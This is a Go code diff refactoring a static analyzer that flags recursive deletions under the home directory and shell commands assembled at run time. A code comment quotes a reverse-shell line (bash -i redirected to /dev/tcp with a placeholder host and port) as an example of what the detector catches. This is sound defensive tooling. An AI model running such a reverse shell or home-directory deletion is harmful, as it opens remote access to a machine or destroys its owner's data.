@@ -429,7 +429,7 @@ func inspect(lang Lang, code string, r *Result, depth int) {
 				for _, path := range paths {
 					r.Deletes = append(r.Deletes, Delete{Path: path, Recursive: rec})
 				}
-			} else if dir, ok := homeComputedPath(lang, code[from:]); ok {
+			} else if dir, ok := (asm{lang: lang}).homeComputedPath(code[from:]); ok {
 				// rmSync(`${homedir()}/${d}`): some entry of a directory of the home
 				// directory, computed at run time.
 				rec := d.recursive || d.recursiveIf != nil && d.recursiveIf.MatchString(callText(code, loc[1]))
@@ -603,7 +603,7 @@ func callArg(code string, i int, lang Lang, r *Result) {
 					return
 				}
 			}
-			if words, ok := assembledList(lang, after); ok {
+			if words, ok := (asm{lang: lang, code: code}).list(after); ok {
 				// spawn('bash', ['-c', `bash -i >& /dev/tcp/${host}/${port} 0>&1`]): the
 				// words as they become, computed values unknown.
 				r.Shell = append(r.Shell, joinArgv(append([]string{lit}, words...)))
@@ -623,7 +623,7 @@ func callArg(code string, i int, lang Lang, r *Result) {
 			}
 		}
 	}
-	if line, ok := assembledLine(lang, rest); ok {
+	if line, ok := (asm{lang: lang, code: code}).line(rest); ok {
 		// A line assembled from the program's text and computed values: judged as the
 		// line it becomes, the computed values unknown.
 		r.Shell = append(r.Shell, line)
